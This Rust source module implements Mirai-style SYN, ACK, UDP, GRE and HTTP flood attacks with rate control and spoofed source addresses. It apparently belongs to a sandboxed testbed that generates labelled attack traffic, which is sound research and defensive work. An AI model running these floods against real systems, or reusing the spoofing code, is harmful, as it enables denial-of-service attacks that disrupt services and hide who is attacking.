//! The floods of Mirai and its family: SYN, ACK, UDP, GRE, HTTP.

use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr};
use std::time::Duration;

use clap::Args;
use serde::{Deserialize, Serialize};

use super::raw::{Flags, Packets, client_port};
use super::{Deed, Meter, Place, defaults};
use crate::mqtt::session::Dial;
use crate::random::Random;
use crate::stop::{Pacer, Stop};

/// What is sent.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Serialize, Deserialize, clap::ValueEnum)]
#[serde(rename_all = "kebab-case")]
pub enum Flood {
    /// Half-open connections.
    Syn,
    /// Acknowledgements of no connection.
    Ack,
    /// Datagrams.
    Udp,
    /// Datagrams in GRE.
    Gre,
    /// Requests, each over a connection of its own: needs no raw socket.
    Http,
}

/// Options of the flood.
#[derive(Clone, PartialEq, Debug, Serialize, Deserialize, Args)]
#[serde(default, deny_unknown_fields)]
pub struct NetworkFlood {
    /// What is sent
    #[arg(long, value_enum, default_value = "udp")]
    pub flood: Flood,
    /// Packets, or requests, in all
    #[arg(long, default_value_t = 4000, value_parser = clap::value_parser!(u32).range(1..=400_000))]
    pub count: u32,
    /// Packets, or requests, a second; 0 is as fast as possible
    #[arg(long, default_value_t = 1000.0)]
    pub rate: f64,
    /// Payload in bytes
    #[arg(long, default_value_t = 512, value_parser = clap::value_parser!(u32).range(0..=1400))]
    pub payload: u32,
    /// Attacked port; 0 is another one for each packet
    #[arg(long, default_value_t = 0)]
    pub port: u16,
    /// So many addresses of the network that no host should have serve as sources; 0 is the own address alone
    #[arg(long, default_value_t = 0, value_parser = clap::value_parser!(u32).range(0..=64))]
    pub spoofed: u32,
    /// Stop after so many seconds
    #[arg(long, default_value_t = 8)]
    pub secs: u32,
}

impl Default for NetworkFlood {
    fn default() -> Self {
        defaults()
    }
}

/// Packets that are sent without a look at the clock.
const BATCH: f64 = 16.0;

impl Deed for NetworkFlood {
    fn label(&self) -> (&'static str, &'static str) {
        let class = match self.flood {
            Flood::Syn => "syn_flood",
            Flood::Ack => "ack_flood",
            Flood::Udp | Flood::Gre => "udp_flood",
            Flood::Http => "http_flood",
        };
        (class, "N3")
    }

    fn secs(&self) -> u32 {
        self.secs
    }

    fn raw(&self) -> bool {
        self.flood != Flood::Http
    }

    fn disguises(&self, place: &Place) -> Vec<IpAddr> {
        if self.raw() {
            self.spoofed_sources(place).into_iter().map(IpAddr::V4).collect()
        } else {
            Vec::new()
        }
    }

    fn run(&self, place: &Place, stop: &Stop, meter: &Meter) {
        if self.flood == Flood::Http {
            self.http(place, stop, meter);
        } else {
            self.packets(place, stop, meter);
        }
    }
}

impl NetworkFlood {
    /// Addresses of 198.18.0.0/15 (RFC 2544), which no host of a sandbox has and to which it has no way.
    fn spoofed_sources(&self, place: &Place) -> Vec<Ipv4Addr> {
        let mut random = place.random(u32::MAX);
        let mut address = || u8::try_from(random.between((1, 254))).expect("below 255");
        (0..self.spoofed).map(|_| Ipv4Addr::new(198, 18, address(), address())).collect()
    }

    fn packets(&self, place: &Place, stop: &Stop, meter: &Meter) {
        let mut random = place.random(0);
        let Ok(mut packets) = Packets::open(place, &mut random) else {
            return Meter::count(&meter.failed);
        };
        let sources = self.spoofed_sources(place);
        let filler = random.text(self.payload as usize).into_bytes();
        // A look at the clock for every packet would limit the rate; slow floods keep their even pace.
        let batch = if self.rate == 0.0 || self.rate > 400.0 { BATCH } else { 1.0 };
        let mut pacer = Pacer::new(self.rate / batch);
        while pacer.turn(stop) {
            let mut round = 0.0;
            while round < batch {
                if !meter.take(u64::from(self.count)) {
                    return;
                }
                if !sources.is_empty() {
                    packets.maker.source = *random.pick(&sources);
                }
                let packet = self.packet(&packets, &filler, &mut random);
                let sent = packets.send(&packet, packets.victim);
                meter.tell(&sent);
                round += 1.0;
            }
        }
    }

    fn packet(&self, packets: &Packets, filler: &[u8], random: &mut Random) -> Vec<u8> {
        let &Packets { ref maker, victim, .. } = packets;
        let port = match self.port {
            0 => u16::try_from(random.between((1, 65_535))).expect("at most 65,535"),
            port => port,
        };
        let ports = (client_port(random), port);
        let numbers = (random.between((0, u32::MAX)), random.between((0, u32::MAX)));
        let none = Flags::default();
        match self.flood {
            Flood::Syn => maker.tcp(victim, ports, numbers, Flags { syn: true, ..none }, b""),
            Flood::Ack | Flood::Http => maker.tcp(
                victim,
                ports,
                numbers,
                Flags { ack: true, psh: !filler.is_empty(), ..none },
                filler,
            ),
            Flood::Udp => maker.udp(victim, ports, filler),
            Flood::Gre => maker.gre(victim, ports, filler),
        }
    }

    fn http(&self, place: &Place, stop: &Stop, meter: &Meter) {
        const AGENTS: [&str; 3] = ["Mozilla/5.0 (X11; Linux x86_64)", "curl/7.88.1", "python-requests/2.31"];
        let mut random = place.random(0);
        let mut pacer = Pacer::new(self.rate);
        let port = if self.port == 0 { 80 } else { self.port };
        let dial = Dial { target: place.target.at_port(port), ..place.dial() };
        while pacer.turn(stop) && meter.take(u64::from(self.count)) {
            let request = format!(
                "GET /?{} HTTP/1.1\r\nHost: {}\r\nUser-Agent: {}\r\nConnection: close\r\n\r\n",
                random.text(8),
                dial.target.address().ip(),
                random.pick(&AGENTS)
            );
            let mut answer = [0; 512];
            let done = dial.open().and_then(|mut stream| {
                stream.set_read_timeout(Some(Duration::from_millis(200)))?;
                stream.write_all(request.as_bytes())?;
                stream.read(&mut answer)
            });
            match done {
                Ok(_) => Meter::count(&meter.accepted),
                Err(error) if error.kind() == std::io::ErrorKind::ConnectionRefused => {
                    Meter::count(&meter.refused);
                }
                Err(_) => Meter::count(&meter.failed),
            }
        }
    }
}
